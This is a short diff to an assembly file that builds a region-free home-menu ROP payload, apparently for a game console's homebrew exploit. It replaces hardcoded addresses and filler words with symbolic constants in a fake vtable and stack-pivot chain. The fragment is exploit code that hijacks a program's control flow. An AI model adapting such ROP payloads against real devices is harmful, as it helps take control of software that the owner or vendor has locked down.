@@ -4,7 +4,7 @@
 
 .create "menu_payload_regionfree.bin",0x0
 
-MENU_OBJECT_LOC equ 0xBABE0000 ; for relocation
+MENU_OBJECT_LOC equ ROP_ALIAS_BASE ; for relocation, see scripts/ropRelocs.py
 
 MENU_PAD equ 0x1000001C
 MENU_KEYCOMBO equ 0x00000008 ; START
@@ -24,10 +24,10 @@ MENU_SLEEP equ ROP_MENU_SLEEPTHREAD
 		.word MENU_OBJECT_LOC + vtable - object ; pointer to manufactured vtable, and new sp
 		.word ROP_MENU_POP_PC ; pc (pop {pc} to jump to ROP)
 
-		.word 0xDEADCAFE ; filler to avoid having stuff overwritten
-		.word 0xDEADCAFE ; filler to avoid having stuff overwritten
-		.word 0xDEADCAFE ; filler to avoid having stuff overwritten
-		.word 0xDEADCAFE ; filler to avoid having stuff overwritten
+		.word ROP_FILLER ; filler to avoid having stuff overwritten
+		.word ROP_FILLER ; filler to avoid having stuff overwritten
+		.word ROP_FILLER ; filler to avoid having stuff overwritten
+		.word ROP_FILLER ; filler to avoid having stuff overwritten
 
 	vtable: ; also initial ROP
 		.word ROP_MENU_POP_R4R5PC ; pop {r4, r5, pc} : skip pivot